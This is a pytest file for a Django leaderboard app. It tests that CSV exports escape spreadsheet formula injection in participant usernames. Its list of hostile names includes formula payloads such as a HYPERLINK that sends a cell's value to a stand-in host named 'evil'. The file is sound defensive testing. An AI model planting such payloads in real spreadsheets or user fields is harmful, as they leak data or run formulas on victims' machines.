"""Leaderboard exports defuse spreadsheet formulas in the names participants choose (OWASP CSV injection)."""

from __future__ import annotations

import csv
import io
from typing import Any

import pytest
from django.contrib.auth.models import User
from django.test import Client

from leaderboard.csv_cells import spreadsheet_safe
from leaderboard.submissions.selectors import leaderboard_csv
from tests.site.test_leaderboards import scored

pytestmark = pytest.mark.django_db

HOSTILE_NAMES = ["=1+1-A1", "+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx", '=HYPERLINK("http://evil/?"&A1,"x")']


def _participants(text: str) -> list[str]:
    return [row[1] for row in csv.reader(io.StringIO(text, newline=""))][1:]


def test_it_prefixes_cells_a_spreadsheet_would_run_and_leaves_the_rest() -> None:
    for name in HOSTILE_NAMES:
        assert spreadsheet_safe(name) == "'" + name
    for harmless in ["alice", "a=b", "0.12346", "-0.25", "+1.5e-05", "", 7]:
        assert spreadsheet_safe(harmless) == harmless


def test_the_board_export_escapes_every_hostile_username(competition: Any) -> None:
    for minute, name in enumerate(HOSTILE_NAMES):
        scored(competition, User.objects.create_user(name), 0.1 + minute / 100, None, minute)
    text = leaderboard_csv(competition=competition, board="public")
    assert _participants(text) == ["'" + name for name in HOSTILE_NAMES]
    assert "\n=" not in text and ",=" not in text


def test_the_web_and_api_exports_carry_the_escaped_name(competition: Any) -> None:
    scored(competition, User.objects.create_user("=1+1-A1"), 0.25, None, 1)
    client = Client()
    web = client.get(f"/c/{competition.slug}/leaderboard/public.csv").content.decode()
    api = client.get(f"/api/v1/competitions/{competition.slug}/leaderboard/?format=csv").content.decode()
    assert _participants(web) == _participants(api) == ["'=1+1-A1"]
